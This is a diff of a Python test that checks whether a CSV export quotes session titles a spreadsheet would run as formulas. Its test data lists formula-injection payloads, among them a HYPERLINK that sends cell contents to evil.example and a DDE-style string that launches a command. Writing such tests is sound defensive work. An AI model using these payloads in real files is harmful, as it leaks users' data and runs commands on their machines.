@@ -57,7 +57,7 @@ def test_csv_has_every_session_with_capacity_and_fill() -> None:
 
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted() -> None:
     programme = small_rooms()
-    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
     sessions = list(programme.sessions)
     for i, title in enumerate(hostile):
         sessions[i] = replace(sessions[i], title=title)
